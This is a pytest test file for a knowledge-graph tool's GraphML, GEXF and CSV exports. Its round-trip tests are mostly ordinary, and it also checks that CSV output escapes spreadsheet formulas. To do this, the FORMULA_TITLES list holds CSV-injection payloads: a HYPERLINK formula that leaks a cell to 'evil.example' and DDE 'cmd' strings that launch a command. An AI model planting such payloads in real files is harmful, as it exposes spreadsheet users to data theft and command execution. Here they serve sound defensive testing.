"""GraphML, GEXF and CSV in every bundle: they round-trip through networkx to the graph kg built."""

import csv
import json
import re
from collections import Counter

import networkx as nx
import pandas as pd
import pytest

from kg.graph import read_graph
from kg.sinks.files import read_csv, read_gexf, read_graphml


@pytest.fixture(scope="module")
def graph(built_bundle):
    return read_graph(built_bundle)


def test_every_bundle_holds_the_file_exports(built_bundle):
    for name in ("graph.json", "graph.graphml", "graph.gexf", "nodes.csv", "edges.csv", "graph.html"):
        assert (built_bundle / name).stat().st_size > 1000, name


def _edges(g):
    return sorted((u, v, k, tuple(sorted(d.items()))) for u, v, k, d in g.edges(keys=True, data=True))


@pytest.mark.parametrize(
    "reader, name",
    [(read_graphml, "graph.graphml"), (read_gexf, "graph.gexf"), (read_csv, "nodes.csv")],
    ids=["graphml", "gexf", "csv"],
)
def test_kg_readers_give_back_the_built_graph_exactly(built_bundle, graph, reader, name):
    again = reader(built_bundle / name)
    assert again.number_of_nodes() == graph.number_of_nodes() and again.number_of_edges() == graph.number_of_edges()
    assert dict(again.nodes(data=True)) == dict(graph.nodes(data=True))
    assert _edges(again) == _edges(graph)


def test_plain_networkx_reads_graphml_and_gexf_with_types_and_key_properties(built_bundle, graph):
    kinds = Counter(d.get("type") or d["label"] for _, d in graph.nodes(data=True))
    graphml = nx.read_graphml(built_bundle / "graph.graphml", force_multigraph=True)
    gexf = nx.read_gexf(built_bundle / "graph.gexf")
    for other, label in ((graphml, "label"), (gexf, "kind")):
        assert other.number_of_nodes() == graph.number_of_nodes() and other.number_of_edges() == graph.number_of_edges()
        assert Counter(d.get("type") or d[label] for _, d in other.nodes(data=True)) == kinds
    paper = next(n for n, d in graph.nodes(data=True) if d["label"] == "Paper")
    assert graphml.nodes[paper]["title"] == graph.nodes[paper]["title"]
    assert gexf.nodes[paper]["label"] == graph.nodes[paper]["title"]  # Gephi shows the title
    concept = next(n for n, d in graph.nodes(data=True) if d["label"] == "Concept")
    assert graphml.nodes[concept]["papers"] == graph.nodes[concept]["papers"]
    assert Counter(d["type"] for *_, d in graphml.edges(data=True)) == Counter(d["type"] for *_, d in graph.edges(data=True))


def test_the_files_are_valid_for_other_tools(built_bundle):
    graphml = (built_bundle / "graph.graphml").read_text(encoding="utf-8")
    key_ids = re.findall(r'<key id="([^"]+)"', graphml)
    assert len(key_ids) == len(set(key_ids)), "GraphML key ids must be unique"
    edge_ids = re.findall(r'<edge id="([^"]+)"', graphml)
    assert len(edge_ids) == len(set(edge_ids)), "GraphML edge ids must be unique"
    assert "lastmodifieddate" not in (built_bundle / "graph.gexf").read_text(encoding="utf-8")  # same input, same file
    for name in ("nodes.csv", "edges.csv"):
        with (built_bundle / name).open(encoding="utf-8", newline="") as handle:
            header = next(csv.reader(handle))
        assert len(header) == len(set(header)), f"{name} repeats a column"
    assert header[:4] == ["source", "target", "key", "type"]


#: Titles a spreadsheet would run as formulas (OWASP "CSV injection"): a link that leaks a cell, a command, a sum.
FORMULA_TITLES = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open the PDF")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
]


def _runs_in_a_spreadsheet(cell: str) -> bool:
    return cell.startswith(("=", "+", "@", "\t", "\r")) or (cell.startswith("-") and not re.fullmatch(r"-[\d.]+(e-?\d+)?", cell))


@pytest.fixture(scope="module")
def formula_bundle(tmp_path_factory, extractor):
    """A real build whose papers carry FORMULA_TITLES; each shares its abstract with a plainly titled twin."""
    from conftest import sample_file

    from kg.build import build
    from kg.sources import read_inputs

    papers = read_inputs([sample_file("004")]).papers[: len(FORMULA_TITLES)]
    rows = [{"title": title, "abstract": paper.abstract} for title, paper in zip(FORMULA_TITLES, papers, strict=True)]
    rows += [{"title": f"Plain twin {i}", "abstract": paper.abstract} for i, paper in enumerate(papers)]
    folder = tmp_path_factory.mktemp("formulas")
    (folder / "papers.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    build([folder / "papers.jsonl"], folder / "bundle", extractor=extractor)
    return folder / "bundle"


def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(formula_bundle):
    with (formula_bundle / "nodes.csv").open(encoding="utf-8", newline="") as handle:
        titles = {row["title"] for row in csv.DictReader(handle) if row["label"] == "Paper"}
    assert {"'" + title for title in FORMULA_TITLES} <= titles
    for name in ("nodes.csv", "edges.csv"):
        with (formula_bundle / name).open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [cell for cell in cells if _runs_in_a_spreadsheet(cell)], name


def test_kg_reads_its_escaped_csv_back_unchanged(formula_bundle):
    graph = read_graph(formula_bundle)
    again = read_csv(formula_bundle / "nodes.csv")
    assert dict(again.nodes(data=True)) == dict(graph.nodes(data=True))
    assert set(FORMULA_TITLES) <= {d.get("title") for _, d in again.nodes(data=True)}


def test_the_analytics_csvs_escape_formulas_too(formula_bundle, tmp_path):
    from kg.analytics.report import write_report

    written = write_report(read_graph(formula_bundle), tmp_path)
    similar = pd.read_csv(tmp_path / "similar_papers.csv", dtype=str, keep_default_na=False)
    assert {"'" + title for title in FORMULA_TITLES} <= set(similar["paper_title"]) | set(similar["other_title"])
    for path in written[1:]:
        with path.open(encoding="utf-8", newline="") as handle:
            cells = [cell for row in csv.reader(handle) for cell in row]
        assert not [cell for cell in cells if _runs_in_a_spreadsheet(cell)], path.name
    page = written[0].read_text(encoding="utf-8")
    assert '<td>=HYPERLINK("https://evil.example/' in page and "'=HYPERLINK" not in page  # the HTML shows it as it is
